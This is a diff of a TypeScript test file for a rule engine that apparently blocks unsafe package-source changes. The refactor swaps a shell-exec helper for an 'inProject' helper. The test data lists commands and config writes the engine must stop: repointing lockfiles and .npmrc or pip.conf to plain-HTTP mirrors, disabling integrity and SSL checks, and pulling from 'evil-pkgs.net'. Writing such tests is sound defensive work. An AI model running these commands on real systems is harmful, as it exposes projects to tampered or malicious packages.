@@ -1,6 +1,6 @@
 import { describe, it } from 'vitest';
 import { sharedEngine } from './helpers.ts';
-import { familyAssertions, fileWrite, ruleAssertions } from './rule-assertions.ts';
+import { familyAssertions, fileWrite, inProject, ruleAssertions } from './rule-assertions.ts';
 
 /**
  * The act (p29, actsB): a package manager's source moved to plain HTTP on
@@ -16,7 +16,6 @@ import { familyAssertions, fileWrite, ruleAssertions } from './rule-assertions.t
 const engine = await sharedEngine();
 const { each, quiet } = familyAssertions(engine);
 const { stopped, allowed } = ruleAssertions(engine);
-const sh = (script: string) => ({ type: 'ShellExec', command: 'bash', args: ['-c', script], cwd: '/home/dev/projects/app' }) as const;
 
 describe('package sources and their checks', () => {
   it('every enumerated writing is stopped', () => {
@@ -76,7 +75,7 @@ describe('package sources and their checks', () => {
       "sed -i 's#https://registry.yarnpkg.com#http://npm.fastmirror.io#g' yarn.lock",
       "npm install --no-package-lock --ignore-scripts=false --no-audit --integrity=false",
       "pip download --no-deps --trusted-host evil-pkgs.net --index-url http://evil-pkgs.net/simple pkg",
-    ]) stopped(sh(c) as never);
+    ]) stopped(inProject(c));
     for (const c of [
       fileWrite("/home/dev/.npmrc", "registry=http://npm.fastmirror.io/\nstrict-ssl=false\n"),
       fileWrite("/home/dev/.config/pip/pip.conf", "[global]\nindex-url = http://pypi.fastmirror.io/simple\ntrusted-host = pypi.fastmirror.io\n"),
@@ -149,7 +148,7 @@ describe('package sources and their checks', () => {
       "npm install --registry=http://localhost:4873 my-local-pkg",
       "poetry source add --priority=supplemental acme https://pypi.acme.io/simple",
       'echo "deb http://deb.debian.org/debian bookworm-backports main" | sudo tee /etc/apt/sources.list.d/backports.list',
-    ]) allowed(sh(c) as never);
+    ]) allowed(inProject(c));
     for (const c of [
       fileWrite(".npmrc", "@acme:registry=https://npm.pkg.github.com\n//npm.pkg.github.com/:_authToken=${NPM_TOKEN}\n"),
       fileWrite("pyproject.toml", "[[tool.poetry.source]]\nname = \"acme\"\nurl = \"https://pypi.acme.io/simple\"\npriority = \"supplemental\"\n"),
